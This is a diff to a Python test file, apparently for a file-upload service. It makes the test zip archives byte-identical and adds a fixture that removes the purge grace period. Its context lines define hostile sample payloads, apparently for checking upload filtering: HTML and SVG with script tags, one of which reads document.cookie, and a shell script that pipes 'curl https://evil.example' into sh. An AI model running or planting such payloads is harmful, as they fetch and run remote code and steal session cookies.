@@ -27,7 +27,9 @@ def _zip(members: list[tuple[str, bytes]], stored_first: bool = False) -> bytes:
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
         for n, (name, data) in enumerate(members):
-            archive.writestr(name, data, compress_type=zipfile.ZIP_STORED if stored_first and n == 0 else None)
+            info = zipfile.ZipInfo(name, date_time=(2018, 10, 3, 9, 0, 0))  # the same bytes every time
+            info.compress_type = zipfile.ZIP_STORED if stored_first and n == 0 else zipfile.ZIP_DEFLATED
+            archive.writestr(info, data)
     return buffer.getvalue()
 
 
@@ -76,6 +78,12 @@ ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200
 HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
 SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 SCRIPT = b"#!/bin/sh\ncurl https://evil.example | sh\n"
+
+
+@pytest.fixture
+def config_overrides() -> dict:
+    # Removed files are purged at once; the grace period for concurrent uploads has its own test.
+    return {"MATERIAL_PURGE_GRACE_SECONDS": 0}
 
 
 @dataclass
